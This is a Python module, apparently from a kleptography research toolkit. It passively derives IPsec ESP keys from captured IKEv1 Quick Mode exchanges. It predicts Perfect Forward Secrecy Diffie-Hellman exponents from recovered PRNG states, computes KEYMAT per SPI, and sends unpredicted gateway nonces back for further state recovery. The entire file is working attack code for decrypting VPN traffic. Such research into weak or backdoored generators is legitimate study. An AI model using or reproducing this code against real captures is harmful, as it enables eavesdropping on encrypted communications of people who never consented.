"""IKEv1 Quick Mode, passively: decrypted QM1/QM2 → (PFS exponent) → KEYMAT per SPI → ESP keys.

KEYMAT = prf(SKEYID_d, [g(qm)^xy |] protocol | SPI | Ni_b | Nr_b), one per
direction with the SPI its *receiver* chose (RFC 2409 §5.5).  With PFS the
Quick Mode KE of either peer is looked up in the PRNG walks (the gateway
draws its QM exponent from the same generator); when no walk predicts it,
the gateway's QM nonce is handed back for another round of state recovery.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Protocol

from kleptolab.attack.outputs import EspSaRow
from kleptolab.attack.prng_walk import PrngWalker
from kleptolab.attack.recovery import NONCE_SIZE
from kleptolab.capture import IkePacket
from kleptolab.crypto.algorithms import Prf
from kleptolab.ike.dh import group_by_number
from kleptolab.ike.v1 import keys as kdf
from kleptolab.ike.v1.constants import Exchange
from kleptolab.ike.v1.crypto import DecryptedMessage
from kleptolab.ike.v1.payloads import KePayload, NoncePayload, SaPayload
from kleptolab.ike.v1.proposals import child_offers

__all__ = ["Opened", "quick_mode_sas"]


@dataclass(frozen=True)
class Opened:
    """A decrypted IKEv1 message and the packet it came in."""

    packet: IkePacket
    message: DecryptedMessage


class _Sink(Protocol):
    esp: list[EspSaRow]
    children: list[dict[str, object]]
    child_nonces: list[tuple[bytes, int]]


def quick_mode_sas(
    sid: str, gateway: str, prf: Prf, skeyid_d: bytes, opened: list[Opened], walker: PrngWalker, out: _Sink
) -> None:
    """Derive the ESP keys of every complete Quick Mode in ``opened`` into ``out``."""
    exchanges: dict[int, list[Opened]] = {}
    for o in opened:
        if o.packet.header.exchange_type == Exchange.QUICK_MODE:
            exchanges.setdefault(o.packet.header.message_id, []).append(o)
    for mid, msgs in exchanges.items():
        first = msgs[0]
        sender = (first.packet.datagram.src, first.packet.datagram.sport)  # peers may share an address
        answer = next((m for m in msgs if (m.packet.datagram.src, m.packet.datagram.sport) != sender), None)
        if answer is None:
            out.children.append({"message_id": f"{mid:08x}", "failure": "Quick Mode answer not in the capture"})
            continue
        _one(sid, gateway, prf, skeyid_d, mid, first, answer, walker, out)


def _one(
    sid: str, gateway: str, prf: Prf, skeyid_d: bytes, mid: int, q1: Opened, q2: Opened,
    walker: PrngWalker, out: _Sink,
) -> None:
    c1, c2 = q1.message.chain, q2.message.chain
    sa1, sa2 = c1.first(SaPayload), c2.first(SaPayload)
    n1, n2 = c1.first(NoncePayload), c2.first(NoncePayload)
    info: dict[str, object] = {"message_id": f"{mid:08x}"}
    if sa1 is None or sa2 is None or n1 is None or n2 is None:
        out.children.append({**info, "failure": "Quick Mode without SA and Nonce payloads"})
        return
    offers, chosen = child_offers(sa1), child_offers(sa2)
    if not chosen:
        out.children.append({**info, "failure": "the chosen ESP transform is not supported"})
        return
    answer = chosen[0]
    spi_i = next((o.spi for o in offers if o.number == answer.number), offers[0].spi if offers else b"")
    spi_r, child = answer.spi, answer.proposal
    g_qm = b""
    if child.pfs_group is not None:
        ke1, ke2 = c1.first(KePayload), c2.first(KePayload)
        group = group_by_number(child.pfs_group)
        match = peer = None
        if ke1 is not None and ke2 is not None:
            match, peer = walker.find_dh(group, ke2.data, prefer=sid), ke1.data
            if match is None:
                match, peer = walker.find_dh(group, ke1.data, prefer=sid), ke2.data
        if match is None or peer is None:
            gw_nonce = n2 if q2.packet.datagram.src == gateway else n1
            gw_order = (q2 if gw_nonce is n2 else q1).packet.datagram.index
            if len(gw_nonce.data) == NONCE_SIZE:
                out.child_nonces.append((gw_nonce.data, gw_order))
            out.children.append({**info, "failure": "PFS exponent not predicted by any walked state",
                                 "nonce": gw_nonce.data.hex()})
            return
        g_qm = group.shared_secret(match.private, peer)
        info["pfs_draw"] = match.draw.describe()
    args = (n1.data, n2.data, child.encr, child.key_size, child.integ, g_qm)
    to_r = kdf.esp_sa_keys(prf, skeyid_d, spi_r, *args)
    to_i = kdf.esp_sa_keys(prf, skeyid_d, spi_i, *args)
    a, b = q1.packet.datagram.src, q2.packet.datagram.src
    out.esp.append(EspSaRow(a, b, spi_r, child.encr, to_r.encr_key, child.integ, to_r.integ_key))
    out.esp.append(EspSaRow(b, a, spi_i, child.encr, to_i.encr_key, child.integ, to_i.integ_key))
    info.update(suite={"encr": child.encr.name, "key_bits": 8 * child.key_size, "integ": child.integ.name,
                       "pfs_group": child.pfs_group},
                spi_i_to_r=spi_r.hex(), spi_r_to_i=spi_i.hex(), pfs=child.pfs_group is not None,
                udp_encapsulated=answer.encap in (3, 4, 61443, 61444))
    out.children.append(info)
